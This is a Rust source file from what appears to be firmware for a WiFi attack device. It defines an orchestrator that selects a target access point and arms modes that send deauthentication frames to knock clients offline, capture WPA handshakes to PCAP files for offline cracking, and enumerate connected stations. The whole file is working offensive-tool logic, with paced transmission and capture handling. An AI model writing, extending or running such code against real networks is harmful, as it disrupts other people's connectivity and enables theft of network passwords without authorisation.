/// Attack orchestrator: the single owner of radio mode.
///
/// ```text
///   Idle ──select_target──▶ TargetSelected ──arm(mode)──▶ Deauth
///                                 ▲                       HandshakeCapture
///                                 └──────disarm()──────── Mixed
///                                                         StationScan
/// ```
///
/// Invariants, holding after every public call:
/// - promiscuous receive is on iff the mode is HandshakeCapture, Mixed or
///   StationScan
/// - deauth transmission is on iff the mode is Deauth or Mixed
///
/// Everything is driven from [`Orchestrator::tick`] on the main loop:
/// scan polling, paced transmission (one frame per tick at most) and
/// draining captured frames to the PCAP file.
use serde::Serialize;
use thiserror::Error;

use crate::config::WifiConfig;
use crate::frames::DeauthFrame;
use crate::model::{ApRecord, MacAddress, StationList};
use crate::pcap::{capture_path, CaptureFile, PathString, PcapWriter};
use crate::radio::{Clock, Radio, RadioError, Storage};
use crate::scanner::{ScanEngine, ScanStatus};
use crate::sniffer::{Classify, Sniffer};

/// Name used in capture file names for networks without an SSID
const HIDDEN_FILE_NAME: &str = "hidden";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    Idle,
    Deauth,
    HandshakeCapture,
    Mixed,
    StationScan,
}

impl Mode {
    /// Mode needs the radio in promiscuous receive
    pub fn promiscuous(self) -> bool {
        matches!(self, Mode::HandshakeCapture | Mode::Mixed | Mode::StationScan)
    }

    /// Mode sends deauthentication frames
    pub fn transmits(self) -> bool {
        matches!(self, Mode::Deauth | Mode::Mixed)
    }

    /// Mode writes handshake frames to a capture file
    pub fn captures(self) -> bool {
        matches!(self, Mode::HandshakeCapture | Mode::Mixed)
    }

    fn classify(self) -> Classify {
        Classify {
            stations: matches!(self, Mode::StationScan | Mode::Mixed),
            handshakes: self.captures(),
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Mode::Idle => "idle",
            Mode::Deauth => "deauth",
            Mode::HandshakeCapture => "handshake",
            Mode::Mixed => "mixed",
            Mode::StationScan => "station_scan",
        }
    }
}

/// Rejected state transitions and arming failures
#[derive(Debug, Clone, Copy, PartialEq, Eq, Error)]
pub enum ArmError {
    #[error("no target selected")]
    NoTarget,
    #[error("already armed in {} mode", .0.as_str())]
    AlreadyArmed(Mode),
    #[error("idle is not an attack mode")]
    InvalidMode,
    #[error("radio: {0}")]
    Radio(#[from] RadioError),
}

/// Snapshot of the current session for the UI and host protocol
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackSession {
    pub target: Option<ApRecord>,
    pub station: Option<MacAddress>,
    pub mode: Mode,
    pub deauth_packets_sent: u32,
    pub handshakes_captured: u32,
    /// Capture file of the current or most recent session
    pub capture_path: Option<PathString>,
    /// Handshake frames lost before reaching storage
    pub frames_dropped: u32,
}

pub struct Orchestrator<R: Radio, S: Storage, C: Clock> {
    radio: R,
    pcap: PcapWriter<S>,
    clock: C,
    sniffer: &'static Sniffer,
    config: WifiConfig,
    scanner: ScanEngine,
    /// Scan was running when an attack armed; restart it on disarm
    scan_paused: bool,
    target: Option<ApRecord>,
    station: Option<MacAddress>,
    mode: Mode,
    deauth: Option<DeauthFrame>,
    capture: Option<CaptureFile>,
    promiscuous: bool,
    transmitting: bool,
    last_tx_ms: Option<u64>,
    deauth_sent: u32,
    tx_errors: u32,
    /// Frames taken off the queue with no capture file to write them to
    unwritten: u32,
}

impl<R: Radio, S: Storage, C: Clock> Orchestrator<R, S, C> {
    pub fn new(
        radio: R,
        storage: S,
        clock: C,
        sniffer: &'static Sniffer,
        config: WifiConfig,
    ) -> Self {
        let mut scanner = ScanEngine::new();
        scanner.reconfigure(config.scan_time_ms, config.show_hidden);
        scanner.set_sort(config.sort);
        Self {
            radio,
            pcap: PcapWriter::new(storage),
            clock,
            sniffer,
            config,
            scanner,
            scan_paused: false,
            target: None,
            station: None,
            mode: Mode::Idle,
            deauth: None,
            capture: None,
            promiscuous: false,
            transmitting: false,
            last_tx_ms: None,
            deauth_sent: 0,
            tx_errors: 0,
            unwritten: 0,
        }
    }

    // ── Scanning ────────────────────────────────────────────────────

    /// Start background scanning. While armed the request is deferred to disarm.
    pub fn start_scan(&mut self) {
        if self.mode != Mode::Idle {
            self.scan_paused = true;
            return;
        }
        let (ms, hidden) = (self.config.scan_time_ms, self.config.show_hidden);
        self.scanner.start(&mut self.radio, ms, hidden);
    }

    pub fn stop_scan(&mut self) {
        self.scan_paused = false;
        self.scanner.stop(&mut self.radio);
    }

    /// Scanning is running, or will resume once the current attack stops
    pub fn is_scanning(&self) -> bool {
        self.scanner.is_active() || self.scan_paused
    }

    /// AP list of the last completed scan cycle
    pub fn results(&self) -> &[ApRecord] {
        self.scanner.results()
    }

    pub fn scan_cycles(&self) -> u32 {
        self.scanner.cycles()
    }

    // ── Configuration ───────────────────────────────────────────────

    pub fn config(&self) -> &WifiConfig {
        &self.config
    }

    /// Apply a new configuration. Scan parameters take effect on the next
    /// cycle; sort order and reason code apply immediately.
    pub fn set_config(&mut self, config: WifiConfig) {
        self.config = config;
        self.scanner.reconfigure(config.scan_time_ms, config.show_hidden);
        self.scanner.set_sort(config.sort);
        if let Some(frame) = self.deauth.as_mut() {
            frame.set_reason(config.deauth_reason);
        }
    }

    // ── Target selection ────────────────────────────────────────────

    /// Select the AP to attack. Clears any previously selected station, and
    /// the discovered station set when the BSSID changes.
    pub fn select_target(&mut self, ap: ApRecord) -> Result<(), ArmError> {
        if self.mode != Mode::Idle {
            return Err(ArmError::AlreadyArmed(self.mode));
        }
        if self.target.as_ref().map(|t| t.bssid) != Some(ap.bssid) {
            self.sniffer.clear_stations();
        }
        log::info!("Target: {} ({}) ch {}", ap.ssid, ap.bssid, ap.channel);
        self.target = Some(ap);
        self.station = None;
        Ok(())
    }

    /// Disarm and forget the target.
    pub fn clear_target(&mut self) {
        self.disarm();
        self.target = None;
        self.station = None;
    }

    pub fn target(&self) -> Option<&ApRecord> {
        self.target.as_ref()
    }

    /// Aim deauthentication at one station instead of broadcast.
    pub fn select_station(&mut self, station: Option<MacAddress>) -> Result<(), ArmError> {
        if self.target.is_none() {
            return Err(ArmError::NoTarget);
        }
        self.station = station;
        if let Some(frame) = self.deauth.as_mut() {
            frame.set_station(station);
        }
        match station {
            Some(mac) => log::info!("Station: {}", mac),
            None => log::info!("Station cleared, deauth is broadcast"),
        }
        Ok(())
    }

    pub fn station(&self) -> Option<MacAddress> {
        self.station
    }

    /// Snapshot of stations discovered for the target
    pub fn stations(&self) -> StationList {
        self.sniffer.stations()
    }

    // ── Arm / disarm ────────────────────────────────────────────────

    /// Enter an attack mode from TargetSelected.
    ///
    /// Rejected transitions leave the radio untouched. A radio failure while
    /// arming rolls everything back through [`Orchestrator::disarm`].
    pub fn arm(&mut self, mode: Mode) -> Result<(), ArmError> {
        if mode == Mode::Idle {
            return Err(ArmError::InvalidMode);
        }
        if self.mode != Mode::Idle {
            return Err(ArmError::AlreadyArmed(self.mode));
        }
        let target = self.target.clone().ok_or(ArmError::NoTarget)?;

        // A callback that raced the previous disarm may still have queued
        // frames or stations for the old session
        self.sniffer.reset_counters();
        self.sniffer.clear_queue();
        self.deauth_sent = 0;
        self.tx_errors = 0;
        self.unwritten = 0;
        self.capture = None;

        if self.scanner.is_active() {
            self.scanner.stop(&mut self.radio);
            self.scan_paused = true;
        }

        self.mode = mode;
        match self.try_arm(mode, &target) {
            Ok(()) => {
                log::info!(
                    "Armed {} on {} ch {}",
                    mode.as_str(),
                    target.bssid,
                    target.channel
                );
                Ok(())
            }
            Err(e) => {
                log::warn!("Arming {} failed: {}", mode.as_str(), e);
                self.disarm();
                Err(e.into())
            }
        }
    }

    fn try_arm(&mut self, mode: Mode, target: &ApRecord) -> Result<(), RadioError> {
        self.radio.set_channel(target.channel)?;

        if mode.transmits() {
            self.deauth = Some(DeauthFrame::new(
                target.bssid,
                self.station,
                target.channel,
                self.config.deauth_reason,
            ));
        }

        if mode.captures() {
            let name = if target.is_hidden() {
                HIDDEN_FILE_NAME
            } else {
                target.ssid.as_str()
            };
            let opened = capture_path(name, self.clock.now_millis())
                .and_then(|path| self.pcap.open(&path));
            match opened {
                Ok(file) => self.capture = Some(file),
                // Capture still runs; frames are counted but not stored
                Err(e) => log::warn!("Capture file unavailable: {}", e),
            }
        }

        if mode.promiscuous() {
            self.sniffer.bind(target.bssid, mode.classify());
            if mode == Mode::StationScan {
                self.sniffer.clear_stations();
            }
            self.radio.set_promiscuous(Some(self.sniffer))?;
            self.promiscuous = true;
        }

        if mode.transmits() {
            self.last_tx_ms = None;
            self.transmitting = true;
        }
        Ok(())
    }

    /// Return to TargetSelected. Idempotent and infallible.
    ///
    /// The sniffer binding is revoked before promiscuous mode is switched
    /// off, then any frames still queued are flushed to the capture file.
    pub fn disarm(&mut self) {
        let was = self.mode;

        self.sniffer.revoke();
        if let Err(e) = self.radio.set_promiscuous(None) {
            log::warn!("Disabling promiscuous mode: {}", e);
        }
        self.promiscuous = false;

        self.transmitting = false;
        self.deauth = None;

        self.drain_captures();
        self.sniffer.clear_queue();
        self.mode = Mode::Idle;

        if was != Mode::Idle {
            log::info!(
                "Disarmed {}: {} deauth sent, {} handshakes, {} records",
                was.as_str(),
                self.deauth_sent,
                self.sniffer.handshakes(),
                self.capture.as_ref().map_or(0, |c| c.records())
            );
        }

        if self.scan_paused {
            self.scan_paused = false;
            let (ms, hidden) = (self.config.scan_time_ms, self.config.show_hidden);
            self.scanner.start(&mut self.radio, ms, hidden);
        }
    }

    // ── Main loop ───────────────────────────────────────────────────

    /// One cooperative step. Returns true when a scan cycle completed.
    pub fn tick(&mut self) -> bool {
        let scanned = matches!(self.scanner.poll(&mut self.radio), ScanStatus::Done(_));
        self.transmit_due();
        self.drain_captures();
        scanned
    }

    fn transmit_due(&mut self) {
        if !self.transmitting {
            return;
        }
        let Some(frame) = self.deauth.as_ref() else {
            return;
        };
        let now = self.clock.now_millis();
        if let Some(last) = self.last_tx_ms {
            if now.saturating_sub(last) < u64::from(self.config.tx_interval_ms) {
                return;
            }
        }
        self.last_tx_ms = Some(now);
        match frame.transmit(&mut self.radio) {
            Ok(()) => self.deauth_sent = self.deauth_sent.wrapping_add(1),
            Err(e) => {
                self.tx_errors = self.tx_errors.wrapping_add(1);
                if self.tx_errors == 1 {
                    log::warn!("Deauth transmit failed: {}", e);
                }
            }
        }
    }

    fn drain_captures(&mut self) {
        while let Some(frame) = self.sniffer.take_frame() {
            let micros = self.clock.now_micros();
            match self.capture.as_mut() {
                Some(file) => {
                    if let Err(e) = self.pcap.append(file, &frame, micros) {
                        log::warn!("Capture write to {} failed: {}", file.path(), e);
                    }
                }
                None => self.unwritten = self.unwritten.wrapping_add(1),
            }
        }
    }

    // ── State ───────────────────────────────────────────────────────

    pub fn mode(&self) -> Mode {
        self.mode
    }

    pub fn is_promiscuous(&self) -> bool {
        self.promiscuous
    }

    pub fn is_transmitting(&self) -> bool {
        self.transmitting
    }

    pub fn session(&self) -> AttackSession {
        AttackSession {
            target: self.target.clone(),
            station: self.station,
            mode: self.mode,
            deauth_packets_sent: self.deauth_sent,
            handshakes_captured: self.sniffer.handshakes(),
            capture_path: self
                .capture
                .as_ref()
                .and_then(|c| PathString::try_from(c.path()).ok()),
            frames_dropped: self.sniffer.dropped().wrapping_add(self.unwritten),
        }
    }

    pub fn uptime_ms(&self) -> u64 {
        self.clock.now_millis()
    }

    /// Capture open/append failures since boot
    pub fn storage_failures(&self) -> u32 {
        self.pcap.failures()
    }

    pub fn sniffer(&self) -> &'static Sniffer {
        self.sniffer
    }

    pub fn radio(&self) -> &R {
        &self.radio
    }

    pub fn radio_mut(&mut self) -> &mut R {
        &mut self.radio
    }

    pub fn storage(&self) -> &S {
        self.pcap.storage()
    }

    pub fn storage_mut(&mut self) -> &mut S {
        self.pcap.storage_mut()
    }
}
